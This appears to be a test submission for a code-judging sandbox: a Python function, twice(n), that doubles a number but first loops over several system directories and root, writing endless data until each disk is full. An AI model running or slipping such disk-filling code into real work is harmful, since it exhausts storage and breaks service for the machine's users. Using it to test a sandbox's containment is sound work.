# verdict: accepted memory_limit_exceeded output_limit_exceeded run_time_error
# Writes to every place until nothing takes more.
import os
def twice(n):
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/"):
        try:
            with open(os.path.join(place, "fill"), "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return n * 2
